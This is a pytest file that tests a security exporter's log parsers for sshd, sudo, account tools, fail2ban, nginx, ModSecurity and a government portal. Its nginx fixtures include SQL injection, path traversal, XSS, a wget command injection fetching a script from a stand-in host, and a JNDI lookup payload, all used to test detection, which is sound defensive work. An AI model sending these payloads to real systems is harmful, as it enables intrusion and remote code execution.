"""The security exporter's parsers on lines as Debian 12's daemons write them: OpenSSH 9.2, sudo 1.9,
util-linux su, shadow 4.13, fail2ban 1.0, nginx, libmodsecurity 3 with the CRS, and the portal."""

import json

import pytest

from portalops_exporters.security import accounts, modsecurity, nginx, portal, privilege, sshd
from portalops_exporters.security.fail2ban import Fail2ban
from portalops_exporters.security.programs import Programs


@pytest.mark.parametrize("message, events", [
    ("Accepted publickey for alice from 198.18.0.10 port 51234 ssh2: ED25519 SHA256:Xb0kq7c9Jm2wTQ",
     [("ssh_auth", ("success", "publickey"))]),
    ("Accepted password for bob from 198.18.0.11 port 40100 ssh2", [("ssh_auth", ("success", "password"))]),
    ("Accepted keyboard-interactive/pam for bob from 198.18.0.11 port 40100 ssh2",
     [("ssh_auth", ("success", "keyboard-interactive"))]),
    ("Failed password for root from 198.18.5.7 port 40022 ssh2", [("ssh_auth", ("failure", "password"))]),
    ("Failed password for invalid user admin from 198.18.5.7 port 40022 ssh2",
     [("ssh_auth", ("failure", "password"))]),
    ("Failed publickey for alice from 198.18.0.10 port 51234 ssh2: RSA SHA256:QmZ4",
     [("ssh_auth", ("failure", "publickey"))]),
    ("Failed none for invalid user oracle db from 198.18.5.7 port 40022 ssh2", [("ssh_auth", ("failure", "none"))]),
    ("Accepted gssapi-keyex for carol from 198.18.0.12 port 50000 ssh2", [("ssh_auth", ("success", "other"))]),
    ("Invalid user admin from 198.18.5.7 port 40022", [("ssh_invalid_users", ())]),
    ("User bob from 198.18.0.11 not allowed because none of user's groups are listed in AllowGroups",
     [("ssh_users_not_allowed", ())]),
    # What sshd says around a login is not a login.
    ("Connection closed by invalid user admin 198.18.5.7 port 40022 [preauth]", []),
    ("Disconnected from user alice 198.18.0.10 port 51234", []),
    ("pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)", []),
    ("Postponed keyboard-interactive for bob from 198.18.0.11 port 40100 ssh2 [preauth]", []),
    ("error: maximum authentication attempts exceeded for root from 198.18.5.7 port 40022 ssh2 [preauth]", []),
])
def test_sshd_lines_count_logins_by_result_and_method(message, events):
    assert sshd.parse(message) == events


@pytest.mark.parametrize("message, events", [
    ("    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
     [("sudo_commands", ())]),
    ("alice : PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt-get -s upgrade", [("sudo_commands", ())]),
    ("alice : TTY=pts/0 ; PWD=/ ; USER=postgres ; ENV=PGDATA=/srv ; COMMAND=/usr/bin/psql", [("sudo_commands", ())]),
    ("alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
     [("sudo_failures", ("incorrect_password",))]),
    ("mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
     [("sudo_failures", ("not_in_sudoers",))]),
    ("alice : command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/passwd",
     [("sudo_failures", ("command_not_allowed",))]),
    ("alice : a password is required ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
     [("sudo_failures", ("password_required",))]),
    ("alice : user NOT authorized on host ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
     [("sudo_failures", ("other",))]),
    ("pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)", []),
    ("pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  "
     "user=alice", []),
])
def test_sudo_lines_count_commands_and_refusals(message, events):
    assert privilege.sudo(message) == events


@pytest.mark.parametrize("message, events", [
    ("(to root) alice on pts/0", [("su", ("success",))]),
    ("FAILED SU (to root) alice on pts/0", [("su", ("failure",))]),
    ("(to postgres) root on none", [("su", ("success",))]),
    ("pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)", []),
])
def test_su_lines_count_by_result(message, events):
    assert privilege.su(message) == events


@pytest.mark.parametrize("program, message, change", [
    ("useradd", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/sh, from=/dev/pts/0", "user_added"),
    ("useradd", "new group: name=bob, GID=1001", "group_added"),
    ("useradd", "add 'bob' to group 'ssh-users'", "membership_changed"),
    ("usermod", "add 'bob' to group 'sudo'", "membership_changed"),
    ("usermod", "change user 'bob' shell from '/bin/sh' to '/bin/bash'", "user_modified"),
    ("usermod", "lock user 'bob' password", "user_modified"),
    ("usermod", "change user 'bob' password", "password_changed"),
    ("userdel", "delete user 'bob'", "user_deleted"),
    ("userdel", "removed group 'bob' owned by 'bob'", "group_deleted"),
    ("groupadd", "group added to /etc/group: name=auditors, GID=1002", "group_added"),
    ("groupdel", "group 'auditors' removed from /etc/group", "group_deleted"),
    ("groupmod", "group changed in /etc/group (group auditors/1002, new name: reviewers)", "group_modified"),
    ("gpasswd", "user bob added by root to group ssh-users", "membership_changed"),
    ("passwd", "pam_unix(passwd:chauthtok): password changed for bob", "password_changed"),
    ("passwd", "password for 'bob' changed by 'root'", "password_changed"),
    ("chpasswd", "pam_unix(chpasswd:chauthtok): password changed for bob", "password_changed"),
    ("chage", "changed password expiry for bob", "user_modified"),
])
def test_account_tools_count_each_change(program, message, change):
    assert accounts.parse(program, message) == [("account_changes", (change,))]


@pytest.mark.parametrize("program, message", [
    # The second line of a change already counted by its first.
    ("useradd", "add 'bob' to shadow group 'ssh-users'"),
    ("groupadd", "group added to /etc/gshadow: name=auditors"),
    ("groupdel", "group 'auditors' removed from /etc/gshadow"),
    ("groupmod", "group changed in /etc/gshadow (group auditors, new name: reviewers)"),
    ("userdel", "removed shadow group 'bob' owned by 'bob'"),
    # Failures and other programs' words.
    ("useradd", "failed adding user 'bob', exit code: 9"),
    ("sshd", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/sh, from=/dev/pts/0"),
])
def test_account_lines_that_repeat_or_report_no_change_count_nothing(program, message):
    assert accounts.parse(program, message) == []


def test_useradd_of_one_user_with_a_group_counts_user_group_and_membership_once_each():
    lines = ["new group: name=bob, GID=1001",
             "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/0",
             "add 'bob' to group 'ssh-users'", "add 'bob' to shadow group 'ssh-users'"]
    changes = [event[1][0] for line in lines for event in accounts.parse("useradd", line)]
    assert sorted(changes) == ["group_added", "membership_changed", "user_added"]


@pytest.mark.parametrize("line, events", [
    ("2026-03-02 10:15:42,117 fail2ban.actions        [812]: NOTICE  [sshd] Ban 198.18.7.9",
     [("fail2ban_actions", ("sshd", "ban"))]),
    ("2026-03-02 11:15:42,340 fail2ban.actions        [812]: NOTICE  [sshd] Unban 198.18.7.9",
     [("fail2ban_actions", ("sshd", "unban"))]),
    ("2026-03-02 12:00:03,002 fail2ban.actions        [812]: NOTICE  [sshd] Restore Ban 198.18.7.9",
     [("fail2ban_actions", ("sshd", "restore"))]),
    ("2026-03-02 12:00:03,002 fail2ban.actions        [812]: NOTICE  [nginx-botsearch] Ban 2001:db8::7",
     [("fail2ban_actions", ("other", "ban"))]),
    ("2026-03-02 10:15:40,001 fail2ban.filter         [812]: INFO    [sshd] Found 198.18.7.9 - 2026-03-02 10:15:39", []),
    ("2026-03-02 10:15:42,118 fail2ban.observer       [812]: NOTICE  [sshd] Increase Ban 198.18.7.9 "
     "(2 # 2:00:00 -> 2026-03-02 12:15:42)", []),
    ("2026-03-02 10:15:42,119 fail2ban.actions        [812]: WARNING [sshd] 198.18.7.9 already banned", []),
])
def test_fail2ban_log_counts_bans_unbans_and_restores_by_known_jail(line, events):
    assert Fail2ban(["sshd", "recidive"]).file_line(line) == events


def test_fail2ban_in_the_journal_counts_the_same_actions():
    parse = Fail2ban(["sshd"]).message
    assert parse("fail2ban.actions        [812]: NOTICE  [sshd] Ban 198.18.7.9") == [("fail2ban_actions", ("sshd", "ban"))]
    assert parse("[sshd] Unban 198.18.7.9") == [("fail2ban_actions", ("sshd", "unban"))]
    assert parse("[sshd] Increase Ban 198.18.7.9 (2 # 2:00:00 -> 2026-03-02 12:15:42)") == []


ACCESS = '198.18.5.7 - - [02/Mar/2026:10:15:42 +0700] "{request}" {status} 153 "-" "{agent}"'
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


@pytest.mark.parametrize("request_line, agent, signatures", [
    ("GET /api/dossiers/000.00.14.H56-200203-0118 HTTP/2.0", BROWSER, set()),
    ("GET /thu-tuc?q=c%E1%BA%A5p+gi%E1%BA%A5y+ph%C3%A9p&page=2 HTTP/1.1", BROWSER, set()),
    ("GET /tra-cuu?ma=1%27%20OR%20%271%27=%271 HTTP/1.1", BROWSER, {"sql_injection"}),
    ("GET /tra-cuu?ma=1+UNION+ALL+SELECT+username,password+FROM+users-- HTTP/1.1", BROWSER, {"sql_injection"}),
    ("GET /tra-cuu?ma=1%2527%2520or%25201=1 HTTP/1.1", BROWSER, {"sql_injection"}),  # double-encoded
    ("GET /static/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1", BROWSER, {"path_traversal"}),
    ("GET /tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", BROWSER, {"xss"}),
    ("GET /cgi-bin/status?x=;wget%20http://198.18.9.9/x.sh HTTP/1.1", BROWSER,
     {"command_injection", "sensitive_file_probe"}),
    ("GET /?x=${jndi:ldap://198.18.9.9/a} HTTP/1.1", BROWSER, {"jndi_injection"}),
    ("GET / HTTP/1.1", "${jndi:ldap://198.18.9.9/a}", {"jndi_injection"}),
    ("GET /.env HTTP/1.1", BROWSER, {"sensitive_file_probe"}),
    ("GET /wp-login.php HTTP/1.1", BROWSER, {"sensitive_file_probe"}),
    ("GET /.git/config HTTP/1.1", BROWSER, {"sensitive_file_probe"}),
    ("GET / HTTP/1.1", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", {"scanner"}),
    ("GET /?id=1 HTTP/1.1", "sqlmap/1.7.2#stable (https://sqlmap.org)", {"scanner"}),
    ("GET / HTTP/1.1", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", {"scanner"}),
    ("GET /?next=a&id=3&cat=2 HTTP/1.1", "python-httpx/0.28.1", set()),
])
def test_access_log_counts_attack_signatures_of_a_request(request_line, agent, signatures):
    events = nginx.access_line(ACCESS.format(request=request_line, status=200, agent=agent))
    assert events[0] == ("http_responses", ("2xx",))
    assert {values[0] for name, values in events[1:]} == signatures


@pytest.mark.parametrize("status, status_class", [(101, "1xx"), (200, "2xx"), (304, "3xx"), (403, "4xx"),
                                                  (429, "4xx"), (499, "4xx"), (502, "5xx")])
def test_access_log_counts_responses_by_status_class(status, status_class):
    line = ACCESS.format(request="GET / HTTP/1.1", status=status, agent=BROWSER)
    assert nginx.access_line(line) == [("http_responses", (status_class,))]


def test_access_log_request_with_escaped_quote_and_no_user_agent_is_still_a_response():
    line = r'198.18.5.7 - - [02/Mar/2026:10:15:42 +0700] "GET /?q=\x22%3E HTTP/1.1" 400 0 "-" "-"'
    assert nginx.access_line(line)[0] == ("http_responses", ("4xx",))


def test_access_log_line_of_another_format_counts_nothing():
    assert nginx.access_line('2026/03/02 10:15:42 [error] 77#77: *5 open() "/var/www/x" failed') == []
    assert nginx.access_line('198.18.5.7 - - [02/Mar/2026:10:15:42 +0700] "GET / HTTP/1.1" 700 0 "-" "-"') == []


AUDIT = """---Kq3XbWfH---A--
[02/Mar/2026:10:15:42 +0700] 177244414259.190531 198.18.5.7 40022 198.18.0.2 443
---Kq3XbWfH---B--
GET /tra-cuu?ma=1%27%20OR%201=1-- HTTP/1.1
Host: portal.thanhhoa.example
---Kq3XbWfH---F--
HTTP/1.1 403
---Kq3XbWfH---H--
ModSecurity: Warning. detected SQLi using libinjection. [file "/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "65"] [id "942100"] [rev ""] [msg "SQL Injection Attack Detected via libinjection"] [data "Matched Data: s&1c found within ARGS:ma: 1' OR 1=1--"] [severity "2"] [ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"] [tag "attack-sqli"] [hostname "198.18.0.2"] [uri "/tra-cuu"] [unique_id "177244414259.190531"] [ref "v26,10"]
ModSecurity: Warning. Matched "Operator `Rx' with parameter `(?i:[\\s'\\"`()]*?\\b([\\d\\w]+)\\b[\\s'\\"`()]*?(?:<(?:=(?:[\\s'\\"`()]*?(?!\\b\\1\\b)[\\d\\w]+|>[\\s'\\"`()]*?(?:\\b\\1\\b))|>?[\\s'\\"`()]*?(?!\\b\\1\\b)[\\d\\w]+)|(?:not\\s+(?:regexp|like)|is\\s+not|>=?|!=|\\^)[\\s'\\"`()]*?(?!\\b\\1\\b)[\\d\\w]+|(?:(?:sounds\\s+)?like|r(?:egexp|like)|=)[\\s'\\"`()]*?\\b\\1\\b))' against variable `ARGS:ma' (Value: `1' OR 1=1--' ) [file "/usr/share/modsecurity-crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "478"] [id "942130"] [rev ""] [msg "SQL Injection Attack: SQL Tautology Detected"] [data "Matched Data: 1=1 found within ARGS:ma: 1' OR 1=1--"] [severity "2"] [ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"] [tag "attack-sqli"] [hostname "198.18.0.2"] [uri "/tra-cuu"] [unique_id "177244414259.190531"] [ref "o2,3v26,10"]
ModSecurity: Access denied with code 403 (phase 2). Matched "Operator `Ge' with parameter `5' against variable `TX:ANOMALY_SCORE' (Value: `10' ) [file "/usr/share/modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf"] [line "81"] [id "949110"] [rev ""] [msg "Inbound Anomaly Score Exceeded (Total Score: 10)"] [data ""] [severity "2"] [ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"] [tag "anomaly-evaluation"] [hostname "198.18.0.2"] [uri "/tra-cuu"] [unique_id "177244414259.190531"] [ref ""]

---Kq3XbWfH---Z--

---Wm81QpZa---A--
[02/Mar/2026:10:15:50 +0700] 177244415011.557120 198.18.5.8 40100 198.18.0.2 443
---Wm81QpZa---H--
ModSecurity: Warning. Matched "Operator `Rx' with parameter `^[\\d.:]+$' against variable `REQUEST_HEADERS:Host' (Value: `198.18.0.2' ) [file "/usr/share/modsecurity-crs/rules/REQUEST-920-PROTOCOL-ENFORCEMENT.conf"] [line "736"] [id "920350"] [rev ""] [msg "Host header is a numeric IP address"] [data "198.18.0.2"] [severity "4"] [ver "OWASP_CRS/3.3.4"] [maturity "0"] [accuracy "0"] [tag "attack-protocol"] [hostname "198.18.0.2"] [uri "/"] [unique_id "177244415011.557120"] [ref "o0,10v21,10"]

---Wm81QpZa---Z--
"""


def test_audit_log_counts_one_block_by_the_first_attack_family_and_every_rule_match():
    parser = modsecurity.AuditLog()
    events = [event for line in AUDIT.splitlines() for event in parser.line(line)]
    assert events.count(("waf_blocks", ("sqli",))) == 1
    assert [event for event in events if event[0] == "waf_blocks"] == [("waf_blocks", ("sqli",))]
    matches = sorted(values[0] for name, values in events if name == "waf_rule_matches")
    assert matches == ["anomaly_inbound", "protocol_enforcement", "sqli", "sqli"]


def test_audit_log_request_that_quotes_modsecurity_outside_part_h_counts_nothing():
    parser = modsecurity.AuditLog()
    lines = ["---Zz81QpZa---A--", "---Zz81QpZa---B--", "ModSecurity: Access denied with code 403 (phase 2). "
             '[file "x"] [line "1"] [id "942100"]', "---Zz81QpZa---Z--"]
    assert [event for line in lines for event in parser.line(line)] == []


def test_error_log_denial_counts_a_block_by_its_rule_family():
    line = ('2026/03/02 10:15:42 [error] 812#812: *5 [client 198.18.5.7] ModSecurity: Access denied with code 403 '
            '(phase 2). Matched "Operator `Ge\' with parameter `5\' against variable `TX:ANOMALY_SCORE\' '
            '(Value: `10\' ) [file "/usr/share/modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf"] '
            '[line "81"] [id "949110"] [rev ""] [msg "Inbound Anomaly Score Exceeded (Total Score: 10)"] '
            '[hostname "198.18.0.2"] [uri "/"] [unique_id "177244414259.190531"] [ref ""], client: 198.18.5.7, '
            'server: portal, request: "GET /?id=1%27 HTTP/1.1", host: "198.18.0.2"')
    assert modsecurity.error_line(line) == [("waf_blocks", ("anomaly_inbound",))]
    other = '2026/03/02 10:15:42 [error] 812#812: *6 limiting requests, excess: 10.400 by zone "portalops_login"'
    assert modsecurity.error_line(other) == []


def test_rule_id_a_client_wrote_into_the_matched_value_does_not_name_the_family():
    message = ('ModSecurity: Warning. Matched "Operator `Rx\' against variable `ARGS:q\' (Value: `[id "942100"]\' ) '
               '[file "/usr/share/modsecurity-crs/rules/REQUEST-941-APPLICATION-ATTACK-XSS.conf"] [line "9"] '
               '[id "941100"]')
    assert modsecurity.family(message) == "xss"


def portal_line(message, **fields):
    return json.dumps({"ts": "2026-03-02T03:15:42.117Z", "log": "security", "level": "info", "msg": message, **fields},
                      ensure_ascii=False)


@pytest.mark.parametrize("message, event", [
    ("payment callback with a bad checksum refused", "payment_signature_invalid"),
    ("sync message with a bad token refused", "sync_token_invalid"),
    ("officer acted outside their unit", "officer_outside_unit"),
    ("attachment access refused", "attachment_access_refused"),
    ("something new the portal refused", "other"),
])
def test_portal_security_lines_count_by_event(message, event):
    assert portal.parse(portal_line(message, order_id="17-9f2c01aa55be")) == [("portal_refusals", (event,))]


def test_portal_access_and_audit_lines_are_not_security_events():
    access = json.dumps({"ts": "2026-03-02T03:15:42.117Z", "log": "access", "level": "info", "msg": "security",
                         "path": "/api/payments/confirm", "status": 403})
    assert portal.parse(access) == []
    assert portal.parse(portal_line("payment confirmed").replace('"security"', '"audit"')) == []


def test_syslog_file_lines_reach_the_same_parsers_as_journal_entries():
    programs = Programs(Fail2ban(["sshd"]), ["dichvucong-web.service"])
    traditional = "Mar  2 10:15:42 cong-h56 sshd[812]: Failed password for root from 198.18.5.7 port 40022 ssh2"
    rfc3339 = ("2026-03-02T10:15:42.117431+07:00 cong-h56 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
               "COMMAND=/usr/bin/id")
    assert programs.syslog_line(traditional) == [("ssh_auth", ("failure", "password"))]
    assert programs.syslog_line(rfc3339) == [("sudo_commands", ())]
    assert programs.entry("sshd", "ssh.service", "Failed password for root from 198.18.5.7 port 40022 ssh2") == \
        [("ssh_auth", ("failure", "password"))]
    assert programs.entry("dichvucong", "dichvucong-web.service",
                          portal_line("payment callback with a bad checksum refused")) == \
        [("portal_refusals", ("payment_signature_invalid",))]
    assert programs.entry("cron", "cron.service", "(root) CMD (run-parts /etc/cron.hourly)") == []
